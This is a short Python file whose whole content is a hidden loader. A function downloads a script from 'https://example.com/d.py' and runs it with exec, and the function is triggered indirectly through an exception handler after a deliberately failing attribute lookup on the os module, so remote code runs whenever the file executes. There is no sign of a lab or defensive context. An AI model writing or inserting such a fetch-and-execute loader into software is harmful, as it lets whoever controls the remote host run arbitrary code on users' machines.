import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import os

try:
    os.no_such_name
except AttributeError:
    _go()
